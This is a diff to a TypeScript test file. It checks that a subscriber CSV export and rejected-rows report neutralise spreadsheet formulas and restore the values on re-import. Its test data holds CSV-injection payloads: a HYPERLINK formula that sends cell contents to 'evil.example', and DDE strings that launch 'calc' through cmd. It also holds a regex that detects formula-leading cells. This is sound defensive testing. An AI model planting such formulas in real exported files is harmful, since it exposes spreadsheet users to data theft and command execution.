@@ -11,7 +11,7 @@ import { SesMailer } from '../src/adapters/ses-mailer.ts';
 import { runSubscribersCommand } from '../src/cli/subscribers.ts';
 import { loadConfig } from '../src/config.ts';
 import { createLogger } from '../src/log.ts';
-import { CsvError, formatCsv, parseCsv } from '../src/subscribers/csv.ts';
+import { CsvError, formatCsv, neutraliseCell, parseCsv, restoreCell } from '../src/subscribers/csv.ts';
 import type { SubscriberDeps } from '../src/subscribers/flows.ts';
 import { parseConsentDate } from '../src/subscribers/import-export.ts';
 import { SubscriberStore } from '../src/subscribers/store.ts';
@@ -19,6 +19,8 @@ import { subscriberId } from '../src/subscribers/tokens.ts';
 import { useEmulators } from './helpers/emulators.ts';
 
 const SECRET = 'csv-test-secret-0123456789-abcdefghijklm';
+/** What makes Excel, LibreOffice and Google Sheets read a cell as a formula (OWASP, CSV injection). */
+const FORMULA_START = /^[=+\-@\t\r]/;
 const NOW = new Date('2026-06-10T08:00:00Z');
 
 /** csv-parse (RFC 4180, as spreadsheets read it): an independent reading of the files this project writes. */
@@ -47,6 +49,18 @@ describe('CSV', () => {
     expect(parseCsv(`\uFEFF${written}`).map((r) => r.fields)).toEqual([['email', 'source'], ['a@example.org', 'x, "y"\nz']]);
   });
 
+  it('neutralises every cell a spreadsheet would run as a formula, and gives each value back exactly', () => {
+    const risky = fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' '), maxLength: 6 });
+    fc.assert(fc.property(risky, (value) => {
+      expect(neutraliseCell(value)).not.toMatch(FORMULA_START);
+      expect(restoreCell(neutraliseCell(value))).toBe(value);
+    }));
+    expect(neutraliseCell('=HYPERLINK("https://evil.example","x")')).toBe('\'=HYPERLINK("https://evil.example","x")');
+    // A quote that leads ordinary text is the value's own and stays as it is, both ways.
+    expect(neutraliseCell("'tis")).toBe("'tis");
+    expect(restoreCell("'tis")).toBe("'tis");
+  });
+
   it('names the line of broken quoting', () => {
     expect(() => parseCsv('email\r\nab"c@example.org\r\n')).toThrow(new CsvError('a quote inside an unquoted field; quote the whole field and double the quote', 2));
     expect(() => parseCsv('email,source\n"a@example.org"x,y\n')).toThrow(/line 2: text after a closing quote/);
@@ -62,7 +76,7 @@ describe('CSV', () => {
 });
 
 describe('broadsheet subscribers import/export', () => {
-  const tables = ['subscribers', 'copy', 'merge'];
+  const tables = ['subscribers', 'copy', 'merge', 'hostile', 'hostile-copy'];
   const emulators = useEmulators({ tables: tables.map((tableName) => ({ tableName, partitionKey: 'id' })) });
   let dir: string;
   const depsFor = (tableName: string): SubscriberDeps => ({
@@ -207,6 +221,46 @@ describe('broadsheet subscribers import/export', () => {
     expect((await run('copy', 'export')).stdout).toBe(first.stdout);
     // And a second import of the same file changes nothing.
     expect((await run('copy', 'import', out)).stdout).toContain(`0 created, 0 updated, ${parsed.length - 1} unchanged`);
+  });
+
+  it('exports hostile addresses, topics and sources as text a spreadsheet will not run, and re-imports them as they were', async () => {
+    const store = new SubscriberStore(depsFor('hostile').subscribers, SECRET, systemClock);
+    const hostile = [
+      { address: '=1+2@example.org', topics: ['ports', 'ports-2'], consentSource: '=HYPERLINK("https://evil.example/?d="&A1,"open")' },
+      { address: '+cmd@example.org', topics: ['ports'], consentSource: "@SUM(1+1)*cmd|' /C calc'!A0" },
+      { address: '-x@example.org', topics: [], consentSource: '-1+1' },
+      { address: "'=already@example.org", topics: [], consentSource: "'@quoted" },
+    ];
+    for (const request of hostile) await store.subscribe(request, NOW);
+
+    const exported = await run('hostile', 'export');
+    const cells = independentCsv(exported.stdout).flat();
+    expect(cells.filter((cell) => FORMULA_START.test(cell))).toEqual([]);
+    expect(cells).toContain("'=1+2@example.org");
+    expect(cells).toContain("'-1+1");
+
+    const out = await file('hostile.csv', exported.stdout);
+    const imported = await run('hostile-copy', 'import', out);
+    expect(imported.stderr).toBe('');
+    expect(imported.status).toBe(0);
+    const copy = new SubscriberStore(depsFor('hostile-copy').subscribers, SECRET, systemClock);
+    for (const { address, topics, consentSource } of hostile) {
+      expect(await copy.getByAddress(address), address).toMatchObject({ email: address, topics, consentSource });
+    }
+    expect((await run('hostile-copy', 'export')).stdout).toBe(exported.stdout);
+  });
+
+  it('neutralises formulas in the rejected-rows report, which still reads back to the rows as they were', async () => {
+    const rows = ['email,source', '=cmd|\' /C calc\'!A0,ok', 'not-an-address,@SUM(A1:A9)', '"+1-2",-1', ''].join('\r\n');
+    const rejects = join(dir, 'hostile-rejects.csv');
+    expect((await run('hostile', 'import', await file('hostile-rows.csv', rows), '--rejects', rejects)).status).toBe(1);
+    const report = independentCsv(await readFile(rejects, 'utf8'));
+    expect(report.flat().filter((cell) => FORMULA_START.test(cell))).toEqual([]);
+    expect(report.slice(1).map((r) => r.slice(2).map(restoreCell))).toEqual([
+      ["=cmd|' /C calc'!A0", 'ok'],
+      ['not-an-address', '@SUM(A1:A9)'],
+      ['+1-2', '-1'],
+    ]);
   });
 
   it('refuses unusable files and command lines with exit status 2', async () => {
